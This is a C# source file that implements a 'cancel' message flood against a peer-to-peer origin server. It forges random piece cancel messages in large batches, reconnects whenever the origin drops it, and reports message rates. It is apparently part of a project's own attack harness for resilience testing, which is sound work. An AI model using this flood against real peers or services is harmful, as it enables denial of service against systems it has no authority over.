using System.Buffers;
using System.Diagnostics;
using System.Globalization;
using System.Net.Sockets;
using P2PRegistry.Core.Wire;

namespace P2PRegistry.Attack;

/// <summary>
/// One session that, after its handshake, sends <c>cancel</c> messages as fast as the socket takes them, for
/// requests it never made: random piece, random offset in it, random length up to a block. If the origin closes
/// the session, it is dialled again after a second, until the time is up.
/// </summary>
internal sealed class CancelFlood
{
    private const int MessagesPerBatch = 4096;
    private const int CancelMessageLength = 17;
    private const int MaxBlockLength = 16 * 1024;

    private readonly OriginTarget _target;
    private readonly Random _random = new();

    public CancelFlood(OriginTarget target) => _target = target;

    public async Task RunAsync(TimeSpan duration, TextWriter output, CancellationToken cancellationToken)
    {
        using var runFor = CancellationTokenSource.CreateLinkedTokenSource(cancellationToken);
        runFor.CancelAfter(duration);
        var batch = new ArrayBufferWriter<byte>(MessagesPerBatch * CancelMessageLength);
        long messages = 0, connects = 0, refusals = 0, closedByOrigin = 0;
        string? lastRefusal = null;
        var stopwatch = Stopwatch.StartNew();
        try
        {
            while (!runFor.IsCancellationRequested)
            {
                var (peer, refusal) = await HostilePeer.ConnectAsync(_target, TimeSpan.FromSeconds(10), runFor.Token);
                if (peer is null)
                {
                    refusals++;
                    lastRefusal = refusal;
                    await Task.Delay(TimeSpan.FromSeconds(1), runFor.Token);
                    continue;
                }

                connects++;
                await using (peer)
                {
                    var drain = peer.DrainAsync(runFor.Token);
                    try
                    {
                        while (!drain.IsCompleted)
                        {
                            batch.ResetWrittenCount();
                            FillBatch(batch);
                            await peer.SendAsync(batch.WrittenMemory, runFor.Token);
                            messages += MessagesPerBatch;
                        }
                    }
                    catch (SocketException)
                    {
                    }

                    if (drain.IsCompleted && await drain)
                    {
                        closedByOrigin++;
                    }
                    else if (!runFor.IsCancellationRequested)
                    {
                        // The send failed (reset) while the drain had not noticed yet.
                        closedByOrigin++;
                    }
                }

                await Task.Delay(TimeSpan.FromSeconds(1), runFor.Token);
            }
        }
        catch (OperationCanceledException) when (runFor.IsCancellationRequested)
        {
        }

        var seconds = stopwatch.Elapsed.TotalSeconds;
        await output.WriteLineAsync(string.Create(CultureInfo.InvariantCulture,
            $"done seconds={seconds:0.0} messages={messages} mib={messages * CancelMessageLength / 1048576.0:0} " +
            $"messages_per_second={messages / seconds:0} connects={connects} refused={refusals} closed_by_origin={closedByOrigin} last_refusal=\"{lastRefusal}\""));
        await output.FlushAsync(CancellationToken.None);
    }

    private void FillBatch(ArrayBufferWriter<byte> batch)
    {
        var metaInfo = _target.MetaInfo;
        for (var i = 0; i < MessagesPerBatch; i++)
        {
            var index = _random.Next(metaInfo.PieceCount);
            var pieceSize = metaInfo.GetPieceSize(index);
            var begin = _random.Next(pieceSize);
            var length = _random.Next(1, Math.Min(MaxBlockLength, pieceSize - begin) + 1);
            PeerMessageWriter.WriteCancel(batch, index, begin, length);
        }
    }
}
